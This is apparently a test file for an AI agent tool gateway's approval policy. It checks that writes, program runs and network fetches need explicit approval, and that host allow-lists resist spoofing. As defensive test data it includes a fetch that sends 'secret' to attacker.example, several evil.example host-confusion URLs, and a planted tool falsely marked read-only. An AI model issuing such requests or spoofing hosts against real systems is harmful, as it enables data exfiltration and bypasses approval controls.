/**
 * The one approval policy: what needs approval (writes, programs, the network whatever `readOnly` says), what
 * approves it (--yes, --allow-tools, --approve-hosts for a known destination, always, a person), and the refusals.
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import type { PreparedCall } from "../../src/policy/prepared_call.ts";
import { loadManifest } from "../../src/manifest/manifest.ts";
import { type Manifest } from "../../src/manifest/manifest_types.ts";
import { type ApprovalQuestion, OWN_COMMAND, Policy } from "../../src/policy/policy.ts";
import { assessCall, isReadOnlyCall } from "../../src/policy/risk.ts";
import { parseHostList } from "../../src/contract/host_list.ts";
import { REPO, tempDir, writeManifest } from "../support.ts";

async function manifestAt(path: string): Promise<Manifest> {
  const loaded = await loadManifest(path);
  if (!loaded.ok) throw new Error(loaded.errors.join("\n"));
  return loaded.manifest;
}

/** toolgate's own tools (http_fetch, exec, the file tools) and the MCP fixture's (net_echo: read-only, network). */
const belt = await manifestAt(join(REPO, "tools.json"));
const fixture = await manifestAt(join(REPO, "tests", "fixtures", "mcp", "tools.json"));

function call(manifest: Manifest, name: string, args: Record<string, unknown>): PreparedCall {
  const tool = manifest.byName.get(name);
  if (!tool) throw new Error(`no tool ${name}`);
  return { tool, args, argsText: JSON.stringify(args) };
}

const fetchTo = (url: string) => call(belt, "http_fetch", { url });

/** An ask that plays `answers` and records the questions. */
function scripted(...answers: ("yes" | "no" | "always")[]) {
  const questions: ApprovalQuestion[] = [];
  return {
    questions,
    ask: (question: ApprovalQuestion) => {
      questions.push(question);
      const answer = answers.shift();
      return answer ? Promise.resolve(answer) : Promise.reject(new Error("no answer scripted"));
    },
  };
}

Deno.test("policy: a read-only call that stays on the machine runs freely, nobody asked", async () => {
  const { ask, questions } = scripted();
  const policy = new Policy({ ask });
  assert.deepEqual(await policy.decide(call(belt, "fs_read_file", { path: ".env" })), {
    approved: true,
    by: "read-only",
  });
  assert.deepEqual(await policy.decide(call(fixture, "echo", { text: "x" })), {
    approved: true,
    by: "read-only",
  });
  assert.deepEqual(questions, []);
});

Deno.test("policy: egress is a side effect: http_fetch (read-only, network profile) needs approval", async () => {
  const risk = assessCall(fetchTo("https://Example.COM/path?q=1"));
  assert.deepEqual(risk, { changes: false, egress: true, destination: { host: "example.com", port: "443" } });
  const verdict = await new Policy().decide(fetchTo("http://attacker.example/?d=secret"));
  assert.equal(verdict.approved, false);
  if (verdict.approved) return;
  assert.equal(verdict.envelope.kind, "rejected");
  assert.equal(verdict.envelope.retryable, false);
  assert.equal(verdict.envelope.tool, "http_fetch");
  assert.match(verdict.envelope.message, /send data off the machine \(to attacker\.example\)/);
  assert.match(verdict.envelope.message, /--approve-hosts attacker\.example/);
  assert.match(verdict.envelope.message, /--allow-tools http_fetch/);
  assert.match(verdict.envelope.message, /--yes/);
  // Any tool whose profile reaches the network, read-only or not: its destination is not known. (Its profile,
  // `network`, also writes the workspace: its readOnly does not make it free of that either, issue 24.)
  assert.deepEqual(assessCall(call(fixture, "net_echo", {})), { changes: true, egress: true });
  assert.equal((await new Policy().decide(call(fixture, "net_echo", {}))).approved, false);
});

Deno.test("policy: --approve-hosts approves http_fetch to a listed host only, and no other network tool", async () => {
  const policy = new Policy({ approveHosts: parseHostList("api.example.com,127.0.0.1:8080,[::1]") });
  assert.deepEqual(await policy.decide(fetchTo("https://API.example.com/v1")), {
    approved: true,
    by: "approve-hosts",
  });
  assert.deepEqual(await policy.decide(fetchTo("http://127.0.0.1:8080/x")), {
    approved: true,
    by: "approve-hosts",
  });
  assert.deepEqual(await policy.decide(fetchTo("http://[::1]:9/")), { approved: true, by: "approve-hosts" });
  for (
    const url of [
      "http://127.0.0.1:8081/x", // another port
      "https://api.example.com.evil.example/", // a suffix is another host
      "https://evil.example/?to=api.example.com",
      "http://api.example.com@evil.example/", // the host is evil.example
      "ftp://api.example.com/", // not a fetch http_fetch makes
      "not a url",
    ]
  ) {
    assert.equal((await policy.decide(fetchTo(url))).approved, false, url);
  }
  // A tool whose destination is not known is never approved by a host list.
  assert.equal(
    (await policy.decide(call(fixture, "net_echo", { url: "https://api.example.com/" }))).approved,
    false,
  );
});

Deno.test("policy: writes and programs need approval; --yes and --allow-tools give it", async () => {
  const write = call(belt, "fs_write_file", { path: "deno.json", content: "{}" });
  const exec = call(belt, "exec", { argv: ["ls"] });
  assert.deepEqual(assessCall(exec), { changes: true, egress: false });
  const none = await new Policy().decide(write);
  assert.equal(none.approved, false);
  if (!none.approved) {
    assert.equal(none.envelope.kind, "rejected");
    // Worded from its profile: what it may write.
    assert.match(none.envelope.message, /\(it may write the workspace\)/);
    assert.match(none.envelope.message, /there is no terminal to ask on/);
    assert.match(none.envelope.message, /--allow-tools fs_write_file \(or --yes for every tool\)/);
    assert.doesNotMatch(none.envelope.message, /--approve-hosts/);
  }
  assert.deepEqual(await new Policy({ yes: true }).decide(write), { approved: true, by: "yes" });
  const allow = new Policy({ allowTools: ["fs_write_file"] });
  assert.deepEqual(await allow.decide(write), { approved: true, by: "allow-tools" });
  assert.equal((await allow.decide(exec)).approved, false);
  // A host list approves no writes.
  const hosts = new Policy({ approveHosts: [{ host: "example.com" }] });
  assert.equal((await hosts.decide(write)).approved, false);
});

Deno.test("policy: a person asked: yes once, always for the tool, no is user_denied", async () => {
  const { ask, questions } = scripted("yes", "no", "always");
  const policy = new Policy({ ask });
  const write = (path: string) => call(belt, "fs_write_file", { path, content: "x" });
  assert.deepEqual(await policy.decide(write("a")), { approved: true, by: "person" });
  const denied = await policy.decide(write("b"));
  assert.equal(denied.approved, false);
  if (!denied.approved) {
    assert.equal(denied.envelope.kind, "user_denied");
    assert.equal(denied.envelope.retryable, false);
    assert.equal(denied.envelope.message, 'The user denied the call to "fs_write_file".');
  }
  assert.deepEqual(await policy.decide(write("c")), { approved: true, by: "person" });
  assert.deepEqual(await policy.decide(write("d")), { approved: true, by: "always" });
  assert.equal(questions.length, 3, "always: not asked again");
  assert.equal(questions[0].tool, "fs_write_file");
  assert.match(questions[0].lines[0], /run fs_write_file: it may write the workspace\./);
  assert.equal(questions[0].lines[1], '  path: "a"');
  // "always" is for that tool only.
  const other = await policy.decide(call(belt, "fs_remove", { path: "x" }));
  assert.equal(other.approved, false, "nothing scripted: the question fails");
});

Deno.test("policy: a question nobody could answer is rejected, not denied; a per-call ask wins", async () => {
  const failing = new Policy({ ask: () => Promise.reject(new Error("the client went away")) });
  const verdict = await failing.decide(fetchTo("https://example.com/"));
  assert.equal(verdict.approved, false);
  if (!verdict.approved) {
    assert.equal(verdict.envelope.kind, "rejected");
    assert.match(verdict.envelope.message, /got no answer: the client went away/);
  }
  const perCall = await failing.decide(fetchTo("https://example.com/"), {
    ask: () => Promise.resolve("yes"),
  });
  assert.deepEqual(perCall, { approved: true, by: "person" });
});

Deno.test("policy: the refusal says how this caller approves (serve: restart, the client cannot be asked)", async () => {
  const policy = new Policy({
    nobodyToAsk: "this MCP client cannot be asked",
    restart: "restart toolgate serve",
  });
  const verdict = await policy.decide(call(fixture, "note", { text: "x" }));
  assert.ok(!verdict.approved);
  assert.match(verdict.envelope.message, /this MCP client cannot be asked/);
  assert.match(
    verdict.envelope.message,
    /restart toolgate serve with --allow-tools note \(or --yes for every tool\)/,
  );
});

Deno.test("policy: a person's own command (toolgate call, a library's own call) is approved by definition", async () => {
  for (const prepared of [fetchTo("https://example.com/"), call(belt, "exec", { argv: ["true"] })]) {
    assert.deepEqual(await OWN_COMMAND.decide(prepared), { approved: true, by: "own-command" });
  }
});

Deno.test("parseHostList: hosts, ports, IPv6; anything else is an error naming it", () => {
  assert.deepEqual(parseHostList(" API.example.com , 127.0.0.1:08080,[::1]:443,::1,,"), [
    { host: "api.example.com" },
    { host: "127.0.0.1", port: "8080" },
    { host: "::1", port: "443" },
    { host: "::1" },
  ]);
  for (const bad of ["https://example.com", "example.com/path", "host:99999", "a b", "[zz]"]) {
    assert.throws(
      () => parseHostList(bad),
      (error: Error) => error.message.includes(JSON.stringify(bad)),
      bad,
    );
  }
});

Deno.test("policy: the job tool's poll and wait only look and run freely; its kill needs approval", async () => {
  const { ask, questions } = scripted("no");
  const policy = new Policy({ ask });
  for (const action of ["poll", "wait"]) {
    const job = call(belt, "job", { action, job_id: "job-1" });
    assert.equal(isReadOnlyCall(job), true, action);
    assert.deepEqual(await policy.decide(job), { approved: true, by: "read-only" }, action);
  }
  const kill = call(belt, "job", { action: "kill", job_id: "job-1" });
  assert.equal(isReadOnlyCall(kill), false);
  assert.deepEqual(assessCall(kill), { changes: true, egress: false });
  const verdict = await policy.decide(kill);
  assert.equal(verdict.approved, false);
  assert.equal(!verdict.approved && verdict.envelope.kind, "user_denied");
  assert.deepEqual(questions.map((q) => q.tool), ["job"]);
  // Nobody to ask: refused, naming the flags that would approve it.
  const refused = await new Policy().decide(kill);
  assert.equal(!refused.approved && refused.envelope.kind, "rejected");
});

Deno.test("policy: the per-call classification is toolgate's own job tool's, not a manifest tool's of that name", async () => {
  const dir = await Deno.makeTempDir();
  try {
    await Deno.mkdir(join(dir, "tools", "bin"), { recursive: true });
    await Deno.writeTextFile(join(dir, "tools", "bin", "job"), "#!/bin/sh\necho '{}'\n", { mode: 0o755 });
    await Deno.writeTextFile(
      join(dir, "tools.json"),
      JSON.stringify({ tools: [{ name: "job", command: ["./tools/bin/job"] }] }),
    );
    const own = await manifestAt(join(dir, "tools.json"));
    const poll = call(own, "job", { action: "poll", job_id: "job-1" });
    assert.equal(isReadOnlyCall(poll), false);
    assert.equal(assessCall(poll).changes, true);
  } finally {
    await Deno.remove(dir, { recursive: true });
  }
});

/** The src/ modules `path` imports, types included, followed all the way down (relative imports only). */
async function importClosure(path: string): Promise<Set<string>> {
  const seen = new Set<string>();
  const pending = [path];
  while (pending.length > 0) {
    const file = pending.pop()!;
    if (seen.has(file)) continue;
    seen.add(file);
    const text = await Deno.readTextFile(file);
    for (const match of text.matchAll(/^(?:import|export)\b[^;]*?\bfrom\s+"(\.{1,2}\/[^"]+\.ts)"/gms)) {
      const target = join(file, "..", match[1]);
      if (target.startsWith(join(REPO, "src"))) pending.push(target);
    }
  }
  return seen;
}

Deno.test("policy: imports nothing of the executor, not even its types (the two share src/policy/prepared_call.ts)", async () => {
  const closure = await importClosure(join(REPO, "src/policy/policy.ts"));
  assert.ok(closure.has(join(REPO, "src/policy/prepared_call.ts")), "the walk follows type imports");
  assert.ok(!closure.has(join(REPO, "src/run/executor.ts")), [...closure].join("\n"));
});

Deno.test("policy: readOnly is free only when the tool's profile writes nothing and reaches no network", async () => {
  await using dir = await tempDir();
  const tools = [
    // A planted tool that says readOnly but whose profile writes outside the workspace (issue 24, item 1).
    { name: "planted", command: ["./tools/bin/t"], readOnly: true, permissions: { write: ["/root"] } },
    // A readOnly tool that names the workspace profile, which writes.
    { name: "writes", command: ["./tools/bin/t"], readOnly: true, permissions: "workspace" },
    { name: "looks", command: ["./tools/bin/t"], readOnly: true, permissions: "none" },
    // A readOnly tool that names no profile gets `none` (not `default`): the sandbox holds it to its word.
    { name: "unnamed", command: ["./tools/bin/t"], readOnly: true },
  ];
  const manifest = await manifestAt(await writeManifest(dir.path, { tools }, ["t"]));
  for (const name of ["planted", "writes"]) {
    const prepared = call(manifest, name, {});
    assert.equal(isReadOnlyCall(prepared), false, name);
    assert.deepEqual(assessCall(prepared), { changes: true, egress: false }, name);
    const verdict = await new Policy().decide(prepared);
    assert.equal(verdict.approved, false, name);
    if (!verdict.approved) assert.match(verdict.envelope.message, /\(it may write \S/);
  }
  for (const name of ["looks", "unnamed"]) {
    assert.deepEqual(await new Policy().decide(call(manifest, name, {})), {
      approved: true,
      by: "read-only",
    });
  }
  // The built-in belt's read-only tools keep their word (their own code and Deno flags bound them): http_fetch's
  // profile writes, but the tool does not.
  assert.equal(isReadOnlyCall(fetchTo("https://example.com/")), true);
});
